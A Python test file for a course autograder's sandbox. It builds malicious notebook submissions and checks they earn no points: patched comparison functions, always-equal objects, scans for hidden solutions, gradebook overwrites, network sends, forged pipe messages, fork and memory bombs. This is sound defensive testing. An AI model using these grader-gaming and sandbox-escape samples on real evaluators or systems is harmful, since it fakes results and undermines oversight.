"""Cheating attempts get no unearned points, and the grader carries on with the rest.

One grading run (real sandboxed children, real SQLite) over a set of malicious
submissions of lab 1, next to an honest one.
"""
from __future__ import annotations

import csv
import json
import socket
import sqlite3
import subprocess
import threading
from pathlib import Path

import pytest

from autograder.grader import ROOT, grade
from autograder.sandbox import Limits

from ag_helpers import add_cell, lab, needs_isolation, question_points, replace_solution, solved, student, write

LAB = "01_backprop"
pytestmark = [needs_isolation, pytest.mark.xdist_group(name="cheating")]

PATCH_CHECKERS = """
import torch, numpy, torch.testing, numpy.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
import coursekit.checks, coursekit.checks.compare, coursekit.checks.plain
coursekit.checks.compare_values = lambda *a, **k: None
coursekit.checks.compare.compare = lambda *a, **k: None
"""

ALWAYS_EQUAL = """
import torch
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
class EqualTensor(torch.Tensor):
    def __eq__(self, other): return True
class EqualStr(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def forward(x, W1, b1, W2, b2):
    return AlwaysEqual()
def loss_and_grads(*args):
    return (AlwaysEqual(),) + tuple(torch.zeros(1).as_subclass(EqualTensor) for _ in range(4))
def relative_error(a, b):
    return AlwaysEqual()
BUGGY_GRAD = EqualStr("anything")
"""

READ_SECRETS = """
import os, glob
found = []
roots = [{repo!r}, {out!r}, "/work", "/root", "/home", "/tmp", "/srv", "/opt", "/mnt"]
for root in roots:
    for dirpath, dirs, files in os.walk(root):
        for f in files:
            p = os.path.join(dirpath, f)
            try:
                text = open(p, errors="ignore").read(4_000_000)
            except OSError:
                continue
            if "BEGIN SOLUTION" in text or "BEGIN HIDDEN" in text:
                found.append(p)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            found += [pid] if "source" in open(f"/proc/{{pid}}/cmdline").read() else []
        except OSError:
            pass
print("found", found)
import json
for p in found:
    try:
        nb = json.load(open(p))
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
    except Exception:
        pass
"""

WRITE_OUTPUTS = """
import os, sqlite3
for target in [{out!r} + "/gradebook.sqlite", {repo!r} + "/labs/evil.txt", {out!r} + "/grades.csv"]:
    try:
        if target.endswith(".sqlite"):
            db = sqlite3.connect(target)
            db.execute("UPDATE submissions SET score = 999")
            db.commit()
        else:
            open(target, "w").write("hacked")
        print("wrote", target)
    except Exception as e:
        print("could not write", target, e)
os.makedirs({out!r} + "/results", exist_ok=True)
open({out!r} + "/results/write_outputs.json", "w").write('{{"score": 999}}')
"""

NETWORK = """
import socket
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("pypi.org", 443)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"stolen")
        print("connected", host)
    except OSError as e:
        print("no network:", host, e)
"""

FORGE = """
import json, os
answers = {{"ev": "probe", "phase": "end", "status": "ok", "message": "", "t": 0,
           "answer": [{{"__float__": "nan"}}]}}
for fd in range(3, 64):
    for j in range(20):
        data = json.dumps(dict(answers, j=j)).encode()
        try:
            os.write(fd, b"%d\\n" % len(data) + data)
        except OSError:
            break
    try:
        done = json.dumps({{"ev": "done"}}).encode()
        os.write(fd, b"%d\\n" % len(done) + done)
    except OSError:
        pass
"""


# 31 MB of "[]," written straight to the child's pipe: 10 million lists once parsed.
AMPLIFY = """
import gc, os
from autograder.sandbox.child import Child
from autograder.sandbox.wire import write_all
ch = next(o for o in gc.get_objects() if isinstance(o, Child))
body = b'{"ev":"probe","j":0,"phase":"end","status":"ok","message":"","t":0,"answer":[' + b'[],' * 10_000_000 + b'[]]}'
write_all(ch.fd, b"%d\\n" % len(body) + body)
os._exit(0)
"""


def _submissions(tmp: Path, out: Path, port: int) -> dict[str, object]:
    repo = str(ROOT)
    s = {}
    s["honest"] = solved(LAB)
    s["patch_checkers"] = add_cell(replace_solution(student(LAB), "q1-solution",
                                   "def forward(x, W1, b1, W2, b2):\n    return torch.zeros(1)"), PATCH_CHECKERS, at=3)
    s["always_equal"] = add_cell(student(LAB), ALWAYS_EQUAL)
    s["sys_exit"] = add_cell(solved(LAB), "import sys\nsys.exit(0)", at=3)
    nb = add_cell(solved(LAB), "import os\nos._exit(0)", at=5)
    s["os_exit"] = replace_solution(nb, "q1-solution", "def forward(*args):\n    import os\n    os._exit(0)")
    nb = add_cell(solved(LAB), "while True:\n    pass", at=3)
    s["infinite_loop"] = replace_solution(nb, "q2-solution", "def loss_and_grads(*args):\n    while True:\n        pass")
    nb = add_cell(solved(LAB), "hog = []\nwhile True:\n    hog.append(bytearray(10**8))", at=3)
    s["memory_bomb"] = replace_solution(nb, "q3-solution",
                                        "def numerical_gradient(f, w, h=1e-5):\n    return torch.empty(10**12)")
    s["fork_bomb"] = add_cell(solved(LAB), "import os\nwhile True:\n    try:\n        os.fork()\n"
                                           "    except OSError:\n        pass", at=3)
    s["huge_output"] = add_cell(solved(LAB), "import os\nfor _ in range(400):\n    print('x' * 10**6)\n"
                                             "os.write(1, b'y' * 10**8)\nopen('big', 'wb').write(b'z' * 3 * 10**8)", at=3)
    s["read_secrets"] = add_cell(student(LAB), READ_SECRETS.format(repo=repo, out=str(out)))
    s["write_outputs"] = add_cell(student(LAB), WRITE_OUTPUTS.format(repo=repo, out=str(out)))
    s["network"] = add_cell(student(LAB), NETWORK.format(port=port))
    s["forge_messages"] = add_cell(student(LAB), FORGE)
    s["amplify"] = add_cell(student(LAB), AMPLIFY)
    # Every cell after this one "takes" 1.5e308 s by the child's own clock: two of them overflow a sum.
    s["patched_clock"] = add_cell(solved(LAB), "import itertools, time\n_calls = itertools.count()\n"
                                               "time.perf_counter = lambda: 1.5e308 * (next(_calls) % 2)", at=3)
    nb = solved(LAB)
    for cell in nb.cells:
        gid = cell.metadata.get("autograder", {}).get("grade_id")
        if gid == "q3-tests":   # make the helper easy and drop the checks
            cell.source = "def cubic(w):\n    return 0.0\n"
    nb.cells = [c for c in nb.cells if c.metadata.get("autograder", {}).get("grade_id") != "q5-buggy"]
    s["edit_locked"] = nb
    return s


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("cheat")
    out = tmp / "out"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    hits: list = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                hits.append(server.accept())
            except OSError:
                pass

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    subs = _submissions(tmp, out, server.getsockname()[1])
    for name, nb in subs.items():
        write(nb, tmp / "subs" / f"{name}.ipynb")
    limits = Limits(timeout=60, cell_timeout=3, probe_timeout=3, memory_mb=512)
    report = grade(LAB, [tmp / "subs"], out, workers=2, limits=limits, progress=False)
    stop.set()
    t.join()
    server.close()
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    tests = {r.student: r.tests for r in report.records}
    return {"report": report, "rows": rows, "tests": tests, "out": out, "hits": hits,
            "logs": {r.student: r.logs for r in report.records}}


def score(run, name) -> float:
    return float(run["rows"][name]["score"])


def statuses(run, name, question) -> set[str]:
    return {t.status for t in run["tests"][name] if t.question == question}


FULL = lab(LAB).max_score
PTS = question_points(LAB)


def test_every_submission_gets_a_row_and_the_honest_one_full_marks(run):
    assert len(run["rows"]) == 16
    assert score(run, "honest") == FULL
    assert run["report"].exit_code == 0


@pytest.mark.parametrize("name", ["patch_checkers", "always_equal", "read_secrets", "write_outputs",
                                  "network", "forge_messages", "amplify"])
def test_cheats_on_a_blank_notebook_earn_nothing(run, name):
    assert score(run, name) == 0, run["tests"][name]


def test_a_patched_clock_changes_nothing_the_grader_records(run):
    """Timings are the worker's: the child's own clock is never read, so a clock that says 1.5e308 s per
    cell neither breaks the gradebook's JSON (an internal error, retried on every run) nor shows up."""
    assert run["rows"]["patched_clock"]["status"] == "graded", run["rows"]["patched_clock"]
    assert score(run, "patched_clock") == FULL
    assert run["logs"]["patched_clock"]["compute_s"] < 600


def test_an_amplifying_answer_is_refused_before_it_is_parsed(run):
    assert run["rows"]["amplify"]["status"] == "crash", run["rows"]["amplify"]
    assert "more than 500,000 values" in run["rows"]["amplify"]["message"] or any(
        "more than 500,000 values" in t.output for t in run["tests"]["amplify"]), run["rows"]["amplify"]


def test_sys_exit_in_a_cell_does_not_stop_grading(run):
    assert score(run, "sys_exit") == FULL
    assert any("SystemExit" in c["message"] for c in run["logs"]["sys_exit"]["cells"])


def test_os_exit_costs_only_the_question_it_is_in(run):
    assert score(run, "os_exit") == FULL - PTS["q1"]
    assert statuses(run, "os_exit", "q1") == {"crash"}
    assert run["rows"]["os_exit"]["status"] == "crash"


def test_infinite_loop_costs_only_the_question_it_is_in(run):
    assert score(run, "infinite_loop") == FULL - PTS["q2"]
    assert statuses(run, "infinite_loop", "q2") == {"timeout"}
    assert any(c["status"] == "timeout" for c in run["logs"]["infinite_loop"]["cells"])


def test_memory_bomb_costs_only_the_question_it_is_in(run):
    assert score(run, "memory_bomb") == FULL - PTS["q3"]
    assert statuses(run, "memory_bomb", "q3") == {"memory_limit"}
    assert run["rows"]["memory_bomb"]["status"] == "memory_limit"


def test_fork_bomb_is_contained_and_leaves_no_processes(run):
    assert score(run, "fork_bomb") == FULL, (run["logs"]["fork_bomb"], run["tests"]["fork_bomb"])
    uids = set(run["report"].stats["uids"])            # the children of this run (other tests may be running)
    assert uids and all(u >= 200_000 for u in uids)
    ps = subprocess.run(["ps", "-eo", "uid="], capture_output=True, text=True).stdout.split()
    assert not [u for u in ps if int(u) in uids], "sandboxed processes outlived the grading run"


def test_huge_output_is_capped(run):
    assert score(run, "huge_output") == FULL
    assert (run["out"] / "gradebook.sqlite").stat().st_size < 5_000_000
    assert (run["out"] / "feedback" / "huge_output.md").stat().st_size < 200_000


def test_hidden_tests_and_solutions_are_not_readable(run):
    assert score(run, "read_secrets") == 0


def test_output_folder_and_gradebook_are_out_of_reach(run):
    out = run["out"]
    db = sqlite3.connect(out / "gradebook.sqlite")
    assert db.execute("SELECT MAX(score) FROM submissions").fetchone()[0] == FULL
    assert not (ROOT / "labs" / "evil.txt").exists()
    assert json.loads((out / "results" / "write_outputs.json").read_text())["score"] == 0
    assert "hacked" not in (out / "grades.csv").read_text()


def test_no_network(run):
    assert run["hits"] == []


def test_edited_and_deleted_locked_cells_are_flagged_and_not_used(run):
    assert score(run, "edit_locked") == FULL      # the grader ran the original locked cells
    tampered = run["rows"]["edit_locked"]["tampered"]
    assert "locked cell 'q3-tests' was edited" in tampered and "locked cell 'q5-buggy' was deleted" in tampered
    assert run["rows"]["honest"]["tampered"] == ""


SEEN_SHAPES_Q1 = """def forward(x, W1, b1, W2, b2):
    SEEN.append(tuple(W1.shape))
    h = (x @ W1 + b1).clamp(min=0)
    return h @ W2 + b2
"""
SEEN_SHAPES_Q2 = """def loss_and_grads(x, y, W1, b1, W2, b2):
    raise ValueError("W1 shapes seen so far: " + repr(sorted(set(SEEN))))
"""


def test_nothing_a_hidden_probe_saw_reaches_a_visible_tests_message(tmp_path):
    """The probes of visible tests run first: q2's visible test cannot quote the inputs of q1's hidden test."""
    from autograder.grader import make_probes, submission_seed

    nb = add_cell(replace_solution(replace_solution(solved(LAB), "q1-solution", SEEN_SHAPES_Q1),
                                   "q2-solution", SEEN_SHAPES_Q2), "SEEN = []", at=2)
    write(nb, tmp_path / "subs" / "spy.ipynb")
    report = grade(LAB, [tmp_path / "subs"], tmp_path / "out", workers=1, seed=7,
                   limits=Limits(timeout=60, cell_timeout=10, probe_timeout=5), progress=False)
    rec = report.records[0]
    hidden = [tuple(p.steps[0].args[1].shape) for p in make_probes(lab(LAB), submission_seed(7, "spy"))
              if p.case.hidden and p.case.question == "q1"]
    visible_q2 = [t for t in rec.tests if t.question == "q2" and t.visibility == "visible"]
    assert hidden and visible_q2 and all("W1 shapes seen so far" in t.output for t in visible_q2), visible_q2
    out = tmp_path / "out"
    shown = "".join(f.read_text() for f in [*(out / "feedback").glob("*"), *(out / "results").glob("*")])
    assert "W1 shapes seen so far" in shown  # the visible test's message is in the feedback
    for shape in hidden:
        assert repr(shape) not in shown, f"the hidden test's input shape {shape} reached the feedback"
